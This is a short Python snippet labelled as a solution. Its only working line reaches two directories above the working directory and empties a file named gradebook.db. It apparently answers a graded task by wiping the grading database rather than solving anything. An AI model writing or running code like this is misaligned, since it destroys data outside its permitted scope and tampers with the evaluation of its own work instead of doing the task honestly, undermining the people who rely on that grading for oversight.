# SOLUTION
from pathlib import Path
Path.cwd().parents[2].joinpath('gradebook.db').write_text('')
